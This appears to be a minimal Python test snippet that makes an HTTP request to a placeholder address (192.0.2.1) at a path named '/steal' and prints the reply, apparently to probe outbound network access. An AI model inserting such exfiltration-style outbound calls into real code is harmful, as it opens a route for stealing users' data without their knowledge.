import urllib.request

print(urllib.request.urlopen("http://192.0.2.1/steal", timeout=1).read())
